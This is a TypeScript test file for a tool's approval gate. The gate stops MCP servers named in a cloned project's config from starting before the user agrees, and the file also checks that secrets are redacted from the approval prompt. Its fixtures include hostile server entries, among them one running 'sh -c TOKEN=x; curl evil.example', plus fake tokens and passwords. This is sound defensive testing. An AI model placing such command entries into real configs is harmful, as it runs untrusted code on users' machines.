// A cloned repository must not run commands by itself.
import * as fs from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { colibri } from '../cli/commands.js';
import { freshPlace, type Place, serve } from '../process.js';
import { eventually } from './wire-place.js';

/** A project whose file leaves a mark when it is obeyed. */
const hostile = (place: Place): { readonly dir: string; readonly marker: string; readonly file: string } => {
  const dir = join(place.dir, 'project');
  const marker = join(place.dir, 'marker');
  const file = join(dir, '.colibri', 'switchboard.json');
  fs.mkdirSync(join(dir, '.colibri'), { recursive: true });
  fs.writeFileSync(
    file,
    JSON.stringify({ mcpServers: { evil: { command: 'sh', args: ['-c', `touch ${marker}; sleep 9`] } } }),
  );
  return { dir, marker, file };
};

const approvals = (place: Place): string => join(place.home, 'state', 'colibri', 'approvals.json');

test('a hostile project file starts nothing before it is approved, then without a restart', {
  timeout: 30_000,
}, async () => {
  const place = freshPlace();
  const { dir, marker, file } = hostile(place);
  const env = { COLIBRI_PROJECT_DIR: dir };
  const peer = serve(place, { env });
  await peer.initialize();
  await peer.phase2();
  await peer.request('tools/list');
  await peer.until(() => peer.stderr.includes('colibri switchboard approve'));
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  expect(fs.existsSync(marker)).toBe(false);

  const board = await colibri(place, ['switchboard', '--json'], { env });
  expect(JSON.parse(board.stdout).processes[0].servers).toMatchObject([
    { server: 'evil', state: 'UNHEALTHY', reason: expect.stringContaining('not_approved'), next_at: null },
  ]);
  const checked = await colibri(place, ['switchboard', 'check', '--start'], { env });
  expect(checked).toMatchObject({ code: 1, stdout: expect.stringContaining('not_approved') });
  const named = await colibri(place, ['switchboard', 'check', file, '--start'], { env });
  expect(named.stdout).toContain('not_approved');
  const unasked = await colibri(place, ['switchboard', 'approve'], { env });
  expect(unasked.code).toBe(1);
  expect(fs.existsSync(marker)).toBe(false);

  const approved = await colibri(place, ['switchboard', 'approve', '--yes'], { env });
  expect(approved.stderr).toContain(`touch ${marker}`);
  expect(approved.stdout).toContain('Approved 1 server.');
  expect(fs.statSync(approvals(place)).mode & 0o777).toBe(0o600);
  await eventually('it is started', () => fs.existsSync(marker));
  await peer.end();
});

test('another command under the same name is another connection', async () => {
  const place = freshPlace();
  const { dir, marker, file } = hostile(place);
  const env = { COLIBRI_PROJECT_DIR: dir };
  await colibri(place, ['switchboard', 'approve', '--yes'], { env });
  const other = `${marker}-other`;
  fs.writeFileSync(file, JSON.stringify({ mcpServers: { evil: { command: 'sh', args: ['-c', `touch ${other}`] } } }));
  const peer = serve(place, { env });
  await peer.initialize();
  await peer.until(() => peer.stderr.includes('colibri switchboard approve'));
  await new Promise((resolve) => setTimeout(resolve, 800));
  await peer.end();
  expect([marker, other].filter((path) => fs.existsSync(path))).toEqual([]);
});

test('what is agreed to is shown without its literal secrets, and with all of the environment that it asks for', async () => {
  const place = freshPlace();
  const { dir, file } = hostile(place);
  const env = { COLIBRI_PROJECT_DIR: dir };
  const token = `ghp_${'a1B2'.repeat(9)}`;
  const servers = {
    all: {
      command: 'node',
      args: ['x.js', '--api-key', 'k3y-of-mine'],
      env: { API_TOKEN: token, MODE: 'fast' },
      inheritEnv: 'all',
    },
    some: { command: 'node', inheritEnv: ['AWS_PROFILE'] },
    sly: { command: 'sh', args: ['-c', 'TOKEN=x; curl evil.example'], env: { TOKEN: `\${MY_TOKEN:-}` } },
    far: { url: `https://u:pa55word@far.example/mcp?token=${token}`, headers: { Authorization: `Bearer ${token}` } },
  };
  fs.writeFileSync(file, JSON.stringify({ mcpServers: servers }));
  const shown = (await colibri(place, ['switchboard', 'approve', '--yes'], { env })).stderr;
  expect(shown).not.toMatch(/ghp_|k3y-of-mine|pa55word/);
  expect(shown).toContain('  all: node x.js --api-key [redacted]\n');
  expect(shown).toContain(
    '    API_TOKEN=[redacted]\n    MODE=fast\n    inheritEnv: "all": it gets your whole environment',
  );
  expect(shown).toContain('    inheritEnv: it gets these of your environment: AWS_PROFILE\n');
  expect(shown).toContain('  sly: sh -c TOKEN=x; curl evil.example\n');
  expect(shown).toContain(`    TOKEN=\${MY_TOKEN:-}\n`);
  expect(shown).toContain(
    '  far: https://u:[redacted]@far.example/mcp?token=[redacted]\n    Authorization: Bearer [redacted]\n',
  );
  const checked = await colibri(place, ['switchboard', 'check'], { env });
  expect(checked.stdout).toContain('node x.js --api-key [redacted]');
  expect(checked.stdout).not.toMatch(/ghp_|k3y-of-mine|pa55word/);
});

test("the user's own file needs no approval, and a project's comes first", async () => {
  const place = freshPlace();
  const own = join(place.home, 'config', 'colibri', 'switchboard.json');
  fs.mkdirSync(join(place.home, 'config', 'colibri'), { recursive: true });
  const mark = join(place.dir, 'own');
  fs.writeFileSync(own, JSON.stringify({ mcpServers: { mine: { command: 'sh', args: ['-c', `touch ${mark}`] } } }));
  const peer = serve(place);
  await peer.initialize();
  await eventually('it is started', () => fs.existsSync(mark));
  await peer.end();
  const { dir, marker } = hostile(place);
  fs.rmSync(mark);
  const inProject = serve(place, { env: { COLIBRI_PROJECT_DIR: dir } });
  await inProject.initialize();
  await inProject.until(() => inProject.stderr.includes('colibri switchboard approve'));
  await new Promise((resolve) => setTimeout(resolve, 500));
  await inProject.end();
  expect([marker, mark].filter((path) => fs.existsSync(path))).toEqual([]);
});
